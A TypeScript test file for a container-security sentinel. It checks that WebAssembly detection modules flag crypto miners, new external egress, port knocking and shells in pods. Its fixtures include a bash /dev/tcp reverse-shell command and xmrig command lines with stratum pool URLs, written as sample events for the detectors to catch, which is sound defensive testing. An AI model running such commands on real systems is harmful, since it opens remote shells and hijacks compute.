// The shipped modules (Rust) and the AssemblyScript example, run in the real sandbox on events
// encoded by ts-proto (the encoder the sentinel's events are checked against): each catches its
// behaviour and passes ordinary traffic.
import {
  DnsActivityId,
  Event,
  EventClass,
  IpProtocol,
  NetworkActivityId,
  NetworkDirection,
  ProcessActivityId,
  Severity,
} from '@omega/proto';
import { createLogger } from '@omega/runtime';
import { wasmModule, type WasmModuleName } from '../testing/wasm-build';
import { ModuleHost } from './module-host';

const logger = createLogger({ service: 'sentinel', level: 'silent' });
const S = 1_000_000_000n;
const workload = {
  namespace: 'shop',
  pod: 'web-7f9c',
  podUid: '',
  container: 'web',
  containerId: '',
  image: '',
  serviceAccount: '',
  podLabels: {},
};

function process(name: string, path: string, cmdLine: string): Event {
  return Event.fromPartial({
    id: `p-${name}`,
    timeNs: 1n,
    classUid: EventClass.EVENT_CLASS_PROCESS_ACTIVITY,
    node: 'node-a',
    workload,
    payload: {
      $case: 'processActivity',
      value: {
        activityId: ProcessActivityId.PROCESS_ACTIVITY_ID_LAUNCH,
        process: { pid: 4242, name, executablePath: path, cmdLine },
      },
    },
  });
}

function flow(
  id: string,
  timeNs: bigint,
  dst: { ip: string; port: number },
  opts: { tcpFlags?: number; direction?: NetworkDirection; src?: string } = {},
): Event {
  return Event.fromPartial({
    id,
    timeNs,
    classUid: EventClass.EVENT_CLASS_NETWORK_ACTIVITY,
    node: 'node-a',
    workload,
    srcEndpoint: { ip: opts.src ?? '10.1.0.7', port: 40_000 },
    dstEndpoint: dst,
    payload: {
      $case: 'networkActivity',
      value: {
        activityId: NetworkActivityId.NETWORK_ACTIVITY_ID_TRAFFIC,
        protocol: IpProtocol.IP_PROTOCOL_TCP,
        direction: opts.direction ?? NetworkDirection.NETWORK_DIRECTION_OUTBOUND,
        tcpFlags: opts.tcpFlags ?? 0x1a,
        traffic: { bytesOut: 600n, bytesIn: 900n, packetsOut: 5n, packetsIn: 5n },
      },
    },
  });
}

function dns(hostname: string): Event {
  return Event.fromPartial({
    id: `d-${hostname}`,
    timeNs: 1n,
    classUid: EventClass.EVENT_CLASS_DNS_ACTIVITY,
    node: 'node-a',
    workload,
    payload: {
      $case: 'dnsActivity',
      value: {
        activityId: DnsActivityId.DNS_ACTIVITY_ID_QUERY,
        query: { hostname, type: 'A', class: 'IN', packetUid: 7 },
      },
    },
  });
}

/** Runs `events` through module `name`; returns the events it made the sentinel publish. */
async function verdictsOf(name: WasmModuleName, events: Event[]): Promise<Event[]> {
  const published: Event[] = [];
  const host = new ModuleHost({
    node: 'node-a',
    limits: { eventBudgetMs: 2_000, memoryMaxPages: 256, startTimeoutMs: 10_000 },
    maxFaults: 1,
    publish: (_kind, event) => published.push(event),
    logger,
  });
  try {
    await host.load({ name, version: '1.0.0', wasm: wasmModule('shipped-modules.spec', name) });
    for (const e of events) host.offer('process', Event.encode(e).finish());
    await host.idle();
    expect(host.counters(name)).toMatchObject({
      events: events.length,
      faults: 0,
      decodeFailures: 0,
    });
  } finally {
    await host.close();
  }
  return published;
}

describe('shipped modules', () => {
  it('crypto-miner: flags a miner by name, by stratum URL, a pool port and a pool DNS name, once each', async () => {
    const out = await verdictsOf('crypto-miner', [
      process('xmrig', '/tmp/.x/xmrig', '/tmp/.x/xmrig -o pool.example:3333'),
      process('xmrig', '/tmp/.x/xmrig', '/tmp/.x/xmrig -o pool.example:3333'),
      process('kworker', '/usr/bin/kworker', '/usr/bin/kworker -o stratum+tcp://10.9.9.9:14444'),
      process('nginx', '/usr/sbin/nginx', 'nginx -g daemon off;'),
      flow('f1', 1n, { ip: '198.51.100.20', port: 3333 }),
      flow('f2', 1n, { ip: '198.51.100.20', port: 443 }),
      dns('xmr-eu1.nanopool.org'),
      dns('api.github.com'),
    ]);
    const findings = out.filter((e) => e.unmapped['module.finding.title']);
    expect(findings.map((e) => e.unmapped['module.event_id'])).toEqual([
      'p-xmrig',
      'p-kworker',
      'f1',
      'd-xmr-eu1.nanopool.org',
    ]);
    expect(findings[0]!.severity).toBe(Severity.SEVERITY_HIGH);
    expect(findings[0]!.unmapped['module.finding.explanation']).toContain(
      '/tmp/.x/xmrig (pid 4242)',
    );
    expect(findings[2]!.unmapped['module.finding.explanation']).toContain('198.51.100.20:3333');
    expect(
      findings.every((e) => e.unmapped['module.finding.attack_technique_ids'] === 'T1496'),
    ).toBe(true);
    // the repeated miner start passes: one finding per indicator, each labelled
    expect(out).toHaveLength(4);
    expect(out.map((e) => e.unmapped['module.crypto-miner.crypto_miner'])).toEqual([
      'process',
      'process',
      'stratum_port',
      'pool_dns',
    ]);
  });

  it('suspicious-egress: a pod silent outside the cluster for 5 minutes that then talks out is reported once per destination', async () => {
    const out = await verdictsOf('suspicious-egress', [
      flow(
        'lateral',
        0n,
        { ip: '10.1.0.9', port: 5432 },
        { direction: NetworkDirection.NETWORK_DIRECTION_LATERAL },
      ),
      flow(
        'later-lateral',
        400n * S,
        { ip: '10.1.0.9', port: 5432 },
        { direction: NetworkDirection.NETWORK_DIRECTION_LATERAL },
      ),
      flow('first-out', 401n * S, { ip: '203.0.113.9', port: 443 }),
      flow('again', 402n * S, { ip: '203.0.113.9', port: 443 }),
    ]);
    const findings = out.filter((e) => e.unmapped['module.finding.title']);
    expect(findings.map((e) => e.unmapped['module.event_id'])).toEqual(['first-out']);
    expect(findings[0]!.message).toBe('New external destination from pod shop/web-7f9c');
    expect(findings[0]!.unmapped['module.finding.explanation']).toContain('203.0.113.9:443');
  });

  it('suspicious-egress: a pod that talks out while it is learned is never reported', async () => {
    const out = await verdictsOf('suspicious-egress', [
      flow('early', 0n, { ip: '203.0.113.9', port: 443 }),
      flow('late', 900n * S, { ip: '198.51.100.1', port: 443 }),
    ]);
    expect(out).toEqual([]);
  });

  it('port-knock: three unanswered ports then a connection to a fourth is reported with a block request', async () => {
    const syn = {
      tcpFlags: 0x02,
      src: '192.0.2.50',
      direction: NetworkDirection.NETWORK_DIRECTION_INBOUND,
    };
    const out = await verdictsOf('port-knock', [
      flow('k1', 1n * S, { ip: '10.1.0.7', port: 7000 }, syn),
      flow('k2', 2n * S, { ip: '10.1.0.7', port: 8000 }, syn),
      flow('k3', 3n * S, { ip: '10.1.0.7', port: 9000 }, syn),
      flow('open', 4n * S, { ip: '10.1.0.7', port: 22 }, { ...syn, tcpFlags: 0x1a }),
    ]);
    expect(out).toHaveLength(1);
    expect(out[0]!.unmapped['module.event_id']).toBe('open');
    expect(out[0]!.unmapped['module.block_request']).toBe('192.0.2.50/32');
    expect(out[0]!.unmapped['module.finding.explanation']).toContain('7000, 8000, 9000');
  });

  it('port-knock: a scan of many ports followed by a connection is not a knock', async () => {
    const syn = {
      tcpFlags: 0x02,
      src: '192.0.2.51',
      direction: NetworkDirection.NETWORK_DIRECTION_INBOUND,
    };
    const scan = Array.from({ length: 20 }, (_, i) =>
      flow(`s${i}`, BigInt(i + 1) * 100_000_000n, { ip: '10.1.0.7', port: 1000 + i }, syn),
    );
    const out = await verdictsOf('port-knock', [
      ...scan,
      flow('open', 3n * S, { ip: '10.1.0.7', port: 22 }, { ...syn, tcpFlags: 0x1a }),
    ]);
    expect(out).toEqual([]);
  });

  it('shell-in-pod (AssemblyScript): labels a shell in a pod and raises a finding for a /dev/tcp reverse shell', async () => {
    const out = await verdictsOf('shell-in-pod', [
      process('bash', '/bin/bash', 'bash -c ls'),
      process('bash', '/bin/bash', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'),
      process('nginx', '/usr/sbin/nginx', 'nginx'),
    ]);
    expect(out).toHaveLength(2);
    expect(out[0]!.unmapped['module.shell-in-pod.shell']).toBe('bash');
    expect(out[0]!.unmapped['module.finding.title']).toBeUndefined();
    expect(out[1]!.unmapped['module.finding.title']).toBe('Reverse shell in pod shop/web-7f9c');
    expect(out[1]!.severity).toBe(Severity.SEVERITY_HIGH);
  });
});
